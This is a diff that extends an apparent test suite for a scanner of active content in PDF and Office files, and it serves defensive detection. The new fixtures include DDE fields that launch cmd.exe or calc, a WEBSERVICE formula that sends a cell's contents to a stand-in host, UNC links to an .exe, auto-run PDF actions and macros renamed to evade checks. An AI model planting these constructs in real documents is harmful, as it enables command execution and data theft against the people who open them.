@@ -96,6 +96,37 @@ def content_from_outside(document: Pdf) -> None:
     document.pages[0].obj.Contents = stream
 
 
+def a_page_called_when_one_is_seen(document: Pdf) -> None:
+    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://contoh.id")))
+
+
+def a_page_called_behind_a_jump(document: Pdf) -> None:
+    called = Dictionary(S=Name.URI, URI=String("https://contoh.id"))
+    then = Array([Dictionary(S=Name.GoTo, D=String("b"), Next=called)])
+    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=String("a"), Next=then)
+
+
+def jumps_without_an_end(document: Pdf) -> None:
+    jump = document.make_indirect(Dictionary(S=Name.GoTo, D=String("a")))
+    jump.Next = jump
+    document.Root.OpenAction = jump
+
+
+def a_share_that_links_begin_at(document: Pdf) -> None:
+    document.Root.URI = Dictionary(Base=String("file:////host/x/"))
+
+
+def a_page_of_another_file(document: Pdf) -> None:
+    drawn = document.make_stream(b"")
+    drawn.Type, drawn.Subtype, drawn.BBox = Name.XObject, Name.Form, Array([0, 0, 1, 1])
+    drawn.Ref = Dictionary(F=String("\\\\host\\a.pdf"), Page=0)
+    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=drawn))
+
+
+def a_file_by_its_address(document: Pdf) -> None:
+    document.Root.Hidden = Dictionary(FS=Name.URL, F=String("https://contoh.id/a.pdf"))
+
+
 ACTIVE_PDF: dict[str, Change] = {
     "a script on opening": on_opening(Name.JavaScript, JS=String("app.alert(1)")),
     "a script in a stream": script_in_a_stream,
@@ -119,6 +150,13 @@ ACTIVE_PDF: dict[str, Change] = {
     "a sound": annotated(action(**{"/S": Name.Sound})),
     "a form of XFA": a_form_of_xfa,
     "content from another file": content_from_outside,
+    "a page called when one is seen": a_page_called_when_one_is_seen,
+    "a page called behind a jump": a_page_called_behind_a_jump,
+    "jumps without an end": jumps_without_an_end,
+    "an article of another file": annotated(action(**{"/S": Name.Thread, "/F": String("\\\\host\\a.pdf")})),
+    "links that begin at a share": a_share_that_links_begin_at,
+    "a page of another file": a_page_of_another_file,
+    "a file by its address": a_file_by_its_address,
 }
 
 
@@ -146,6 +184,10 @@ def a_name_elsewhere(document: Pdf) -> None:
     annotated(note)(document)
 
 
+def a_next_page_by_itself(document: Pdf) -> None:
+    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.NextPage))
+
+
 ORDINARY_PDF: dict[str, Change] = {
     "a plain page": lambda document: None,
     "a link to a page of the web": annotated(
@@ -163,6 +205,10 @@ ORDINARY_PDF: dict[str, Change] = {
     ),
     "a list of contents": outline,
     "a name that stands elsewhere": a_name_elsewhere,
+    "a next page by itself": a_next_page_by_itself,
+    "links that begin at a page of the web": lambda document: setattr(
+        document.Root, "URI", Dictionary(Base=String("https://contoh.id/"))
+    ),
 }
 
 
@@ -234,6 +280,53 @@ ACTIVE_OFFICE: dict[str, tuple[dict[str, bytes], str]] = {
     "text from another file": ({"word/a.xml": field("INCLUDETEXT \\\\\\\\host\\\\a")}, evidence.FETCHES),
     "an embedded workbook": ({"word/embeddings/buku.xlsx": b"PK"}, evidence.CARRIES),
     "an embedded program": ({"xl/embeddings/oleObject1.bin": b"\xd0\xcf"}, evidence.CARRIES),
+    "a linked object": (
+        {"word/a.xml": field("LINK Excel.Sheet.12 \\\\\\\\host\\\\a.xlsx \\a")},
+        evidence.FETCHES,
+    ),
+    "a list from a database": ({"word/a.xml": field('DATABASE \\d "C:\\\\a.mdb"')}, evidence.FETCHES),
+    "chapters of another file": ({"word/a.xml": field('RD "\\\\\\\\host\\\\a.docx"')}, evidence.FETCHES),
+    "a field that leads to a share": (
+        {"word/a.xml": field('HYPERLINK "\\\\\\\\host\\\\a.exe"')},
+        evidence.FETCHES,
+    ),
+    "a field in a part of no ending": ({"word/kaki.dat": field("DDEAUTO c:\\\\cmd.exe")}, evidence.FETCHES),
+    "a formula that asks a server": (
+        {"xl/worksheets/sheet1.xml": b'<s><f>_xlfn.WEBSERVICE("https://contoh.id/"&amp;A1)</f></s>'},
+        evidence.FETCHES,
+    ),
+    "a picture that a formula fetches": (
+        {"xl/worksheets/sheet1.xml": b'<s><f>_xlfn.IMAGE("https://contoh.id/a.png")</f></s>'},
+        evidence.FETCHES,
+    ),
+    "a formula that leads to a share": (
+        {"xl/worksheets/sheet1.xml": b'<s><f>HYPERLINK("\\\\host\\a.exe","buka")</f></s>'},
+        evidence.FETCHES,
+    ),
+    "a name that is a formula of DDE": (
+        {"xl/lain.xml": b"<s><definedName name='a'>cmd|' /C calc'!A0</definedName></s>"},
+        evidence.FETCHES,
+    ),
+    "an address that is said to be inside": (
+        {RELS: relation("image", "https://contoh.id/a.png", "Internal")},
+        evidence.FETCHES,
+    ),
+    "an object by another name": (
+        {RELS: relation("oleObject", "data/a.dat", "Internal"), "word/data/a.dat": b"\xd0\xcf"},
+        evidence.CARRIES,
+    ),
+    "a file of another kind that is put in whole": (
+        {RELS: relation("aFChunk", "isi.dat", "Internal"), "word/isi.dat": b"{\\rtf1}"},
+        evidence.CARRIES,
+    ),
+    "a macro by another name": (
+        {RELS: relation("vbaProject", "isi.dat", "Internal"), "word/isi.dat": b"x"},
+        evidence.MACROS,
+    ),
+    "another workbook by another name": (
+        {"xl/_rels/workbook.xml.rels": relation("externalLink", "lain.dat", "Internal")},
+        evidence.FETCHES,
+    ),
     "a macro": ({"word/vbaProject.bin": b""}, evidence.MACROS),
     "a control": ({"word/activeX/activeX1.xml": b"<x/>"}, evidence.MACROS),
     "buttons that call macros": ({"customUI/customUI.xml": b"<x/>"}, evidence.MACROS),
@@ -274,6 +367,7 @@ WRITTEN: dict[str, bytes] = {
     ),
     "among the texts of a workbook": f"<w:si><w:t>{NIK}</w:t></w:si>".encode(),
     "as the number of a cell": f"<w:c><w:v>{NIK}</w:v></w:c>".encode(),
+    "as a number by powers of ten": f"<w:c><w:v>{NIK[0]}.{NIK[1:]}E15</w:v></w:c>".encode(),
     "in digits of another script": "<w:p><w:t>٥٣٢١٠١٤١٠٧٩٠٠٠٠١</w:t></w:p>".encode(),
 }
 
@@ -366,10 +460,15 @@ def document() -> bytes:
             RELS: relation("hyperlink", "https://contoh.id/a"),
             "word/_rels/a.xml.rels": relation("image", "../media/foto.png", "Internal"),
             "word/a.xml": field("PAGE", " \\* MERGEFORMAT", ' HYPERLINK "https://contoh.id"', " TOC \\o"),
+            "word/b.xml": field(' HYPERLINK \\l "bab"', ' HYPERLINK "D:\\\\Data\\\\Lampiran.docx"', " REF a"),
             "word/media/foto.png": b"\x89PNG",
             "docProps/app.xml": b"<x>Included text about the DDEX standard</x>",
         },
     )
+
+
+def of_word_on_the_web() -> bytes:
+    return samples.office("word/document2.xml", more={"word/media/a.svg": b"<!DOCTYPE svg><svg/>"})
 
 
 def of_a_web_page() -> bytes:
@@ -382,6 +481,7 @@ AS_OFFICES_DO = (
     workbook,
     document,
     of_a_web_page,
+    of_word_on_the_web,
     with_own_template,
     with_wordless_template,
     of_a_program_of_windows,
